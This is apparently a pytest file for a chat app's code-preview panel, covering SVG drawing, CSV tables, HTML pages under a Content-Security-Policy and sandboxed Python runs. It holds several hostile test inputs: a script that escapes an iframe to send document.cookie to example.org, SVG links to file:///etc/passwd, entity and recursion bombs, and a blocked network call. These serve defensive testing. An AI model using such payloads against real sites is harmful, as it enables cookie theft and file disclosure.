"""Previews of code blocks as a person uses them: drawn, tabulated, opened in the browser, run in the sandbox, with their versions."""

from __future__ import annotations

import html
import re
from pathlib import Path
from typing import Any

import pytest
from PySide6.QtCore import Qt
from PySide6.QtGui import QColor
from PySide6.QtTest import QTest

from app.gui.chat import preview_panel
from app.gui.chat.message_view import CodeWidget
from app.gui.chat.pane import ChatPane
from app.gui.viewmodels.chat.preview import MOST_ROWS, POLICY, drawable, kind_of, page, rows
from app.runtime.tools.sandbox import missing_sandbox
from tests.app.gui.clipping import faults
from tests.app.gui.conftest import Opened
from tests.app.gui.test_chat_pane import send, views

LEFT = Qt.MouseButton.LeftButton
CTRL, ALT = Qt.KeyboardModifier.ControlModifier, Qt.KeyboardModifier.AltModifier
RED = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 40 20"><rect width="40" height="20" fill="#ff0000"/></svg>'
SPACE = ' xmlns:xlink="http://www.w3.org/1999/xlink"'
BLUE = RED.replace("#ff0000", "#0000ff")


def fenced(language: str, text: str) -> str:
    return f"Here:\n\n```{language}\n{text}\n```\n"


def click_last(grus: Opened, pane: ChatPane) -> Any:
    code = views(pane, CodeWidget)[-1]
    assert code.preview.isVisible()
    grus.qtbot.mouseClick(code.preview, LEFT)
    grus.until(pane.preview_panel.isVisible)
    return pane.preview_panel


def colour(panel: Any) -> str:
    image = panel.picture.pixmap().toImage()
    return QColor(image.pixel(image.width() // 2, image.height() // 2)).name() if not image.isNull() else ""


def test_a_picture_is_drawn_beside_the_code_and_its_versions_are_a_key_away(grus: Opened) -> None:
    grus.window.resize(1180, 780)
    send(grus, "Draw", fenced("svg", RED))
    pane = send(grus, "In blue", fenced("xml", BLUE))
    assert not pane.preview_panel.isVisible()
    panel = click_last(grus, pane)
    grus.until(lambda: colour(panel) == "#0000ff")
    assert (panel.title.text(), panel.which.text()) == ("Picture", "2/2")
    assert faults(grus.window) == []
    QTest.keyClick(grus.window, Qt.Key.Key_Left, CTRL | ALT)
    grus.until(lambda: colour(panel) == "#ff0000")
    assert (panel.which.text(), panel.before.isEnabled()) == ("1/2", False)
    grus.qtbot.mouseClick(panel.after, LEFT)
    grus.until(lambda: colour(panel) == "#0000ff")
    QTest.keyClick(grus.window, Qt.Key.Key_Escape)
    assert not panel.isVisible()
    QTest.keyClick(grus.window, Qt.Key.Key_V, CTRL | ALT)  # the last code
    grus.until(panel.isVisible)
    pane.begin()  # another conversation has nothing of it
    assert not panel.isVisible()


def test_a_picture_that_is_damaged_or_refused_says_so(grus: Opened) -> None:
    pane = send(grus, "Draw", fenced("svg", "<svg xmlns='http://www.w3.org/2000/svg'><rect"))
    panel = click_last(grus, pane)
    grus.until(lambda: panel.about.text() == "This picture cannot be drawn.")
    assert panel.about.property("level") == "error"


def test_a_table_has_its_rows_and_a_heading(grus: Opened) -> None:
    pane = send(grus, "Count", fenced("csv", 'bird;count\n"crane; red";2\nstork;3'))
    panel = click_last(grus, pane)
    grus.until(lambda: panel.middle.currentWidget() is panel.table)
    table = panel.table
    assert [table.horizontalHeaderItem(at).text() for at in range(2)] == ["bird", "count"]
    assert [[table.item(row, at).text() for at in range(2)] for row in range(2)] == [
        ["crane; red", "2"],
        ["stork", "3"],
    ]
    assert faults(grus.window) == []
    assert not panel.which.isVisible()


def test_a_page_opens_in_the_browser_under_a_policy(grus: Opened, monkeypatch: pytest.MonkeyPatch) -> None:
    opened: list[Path] = []
    monkeypatch.setattr(preview_panel.QDesktopServices, "openUrl", lambda url: opened.append(Path(url.toLocalFile())))
    text = (
        '<h1 title="a">Hi</h1><script src="https://example.org/x.js"></script></iframe><img src="http://example.org">'
    )
    pane = send(grus, "Page", fenced("html", text))
    panel = click_last(grus, pane)
    assert opened == []
    QTest.keyClick(grus.window, Qt.Key.Key_Return, CTRL | ALT)
    grus.until(lambda: opened)
    (file,) = opened
    assert file.stat().st_mode & 0o077 == 0
    assert file.read_text("utf-8") == page(text)
    assert panel.about.text() == "The page can load nothing from the network and send nothing."
    assert faults(grus.window) == []


def test_code_runs_in_the_sandbox_and_is_stopped(grus: Opened) -> None:
    if why := missing_sandbox():
        pytest.skip(str(why))
    pane = send(
        grus, "Code", fenced("python", "import socket\nprint(6 * 7)\nsocket.create_connection(('8.8.8.8', 53), 2)")
    )
    panel = click_last(grus, pane)
    assert panel.output.toPlainText() == ""
    grus.qtbot.mouseClick(panel.act, LEFT)
    grus.until(lambda: not pane.preview.running, 30)
    assert panel.output.toPlainText().startswith("42\n")
    assert "unreachable" in panel.output.toPlainText()
    assert pane.preview.failed
    send(grus, "Slow", fenced("python", "import time\ntime.sleep(500)"))
    click_last(grus, pane)
    grus.qtbot.mouseClick(panel.act, LEFT)
    assert panel.act.text() == "Stop"
    QTest.keyClick(grus.window, Qt.Key.Key_Escape)
    grus.until(lambda: panel.output.toPlainText() == "Stopped", 30)


def test_without_a_sandbox_code_does_not_run(grus: Opened, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("app.runtime.tools.sandbox.missing_sandbox", lambda: "No sandbox here.")
    pane = send(grus, "Code", fenced("py", "print(1)"))
    panel = click_last(grus, pane)
    grus.qtbot.mouseClick(panel.act, LEFT)
    grus.until(lambda: panel.output.toPlainText() == "No sandbox here.")


@pytest.mark.parametrize(
    ("language", "text", "kind"),
    [
        ("svg", RED, "svg"), ("xml", "<?xml version='1.0'?>\n<!-- a -->\n" + RED, "svg"), ("", RED, "svg"), ("xml", "<a/>", None),
        ("svg", "no picture", None), ("CSV", "a,b", "csv"), ("html", "<p>", "html"), ("Python", "1", "python"), ("rust", "fn", None),
    ],
)  # fmt: skip
def test_what_has_a_preview(language: str, text: str, kind: str | None) -> None:
    assert kind_of(language, text) == kind


def test_a_picture_refers_to_nothing_outside() -> None:
    for outside in ("file:///etc/passwd", "http://example.org/a.png", "../a.svg", "data:image/svg+xml,svg"):
        for name in ("href", "xlink:href"):
            assert outside.encode() not in drawable(f'<svg{SPACE}><image {name}="{outside}"/><use {name}="#a"/></svg>')
            assert b'"#a"' in drawable(f'<svg{SPACE}><image {name}="{outside}"/><use {name}="#a"/></svg>')
    with pytest.raises(ValueError, match="entities"):
        drawable('<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>')
    with pytest.raises(ValueError, match="too large"):
        drawable("<svg>" + " " * (1 << 20))


def test_a_picture_that_copies_itself_without_end_is_refused() -> None:
    def copies(depth: int) -> str:
        twice = [f'<use href="#a{at}"/><use href="#a{at}"/>' for at in range(depth)]
        inside = "".join(f'<g id="a{at}">{uses}</g>' for at, uses in enumerate(twice, 1))
        return f'<svg><g id="a0"><rect/></g>{inside}</svg>'

    assert drawable(copies(8))
    for picture in (
        copies(17),
        copies(30),
        "<svg><g id='a'><use href='#a'/></g></svg>",
        "<svg>" + "<g/>" * 30_000 + "</svg>",
    ):
        with pytest.raises(ValueError, match="too large"):
            drawable(picture)


def test_a_table_is_bounded() -> None:
    assert len(rows("a,b\n" * 5000)) == MOST_ROWS + 1
    assert len(rows("," * 500)[0]) == 50
    assert rows("") == []
    assert rows("a\tb\n1\t2") == [["a", "b"], ["1", "2"]]


def test_a_page_lies_whole_in_a_frame_of_no_site_and_the_policy_comes_first() -> None:
    text = """</iframe>"'><script>top.location = 'http://example.org?' + document.cookie</script>&amp;"""
    made = page(text)
    (frame,) = re.findall(r'<iframe sandbox="allow-scripts" srcdoc="([^"]*)"></iframe>', made)
    assert html.unescape(frame) == text
    assert made.count("<iframe") == made.count("</iframe>") == 1
    assert made.index("Content-Security-Policy") < made.index("<style>") < made.index("<iframe")
    assert "default-src 'none'" in POLICY
    assert not re.search(
        r"https?:|\*|'self'|allow-same-origin|allow-top-navigation|allow-popups|allow-forms",
        made.partition("srcdoc")[0],
    )
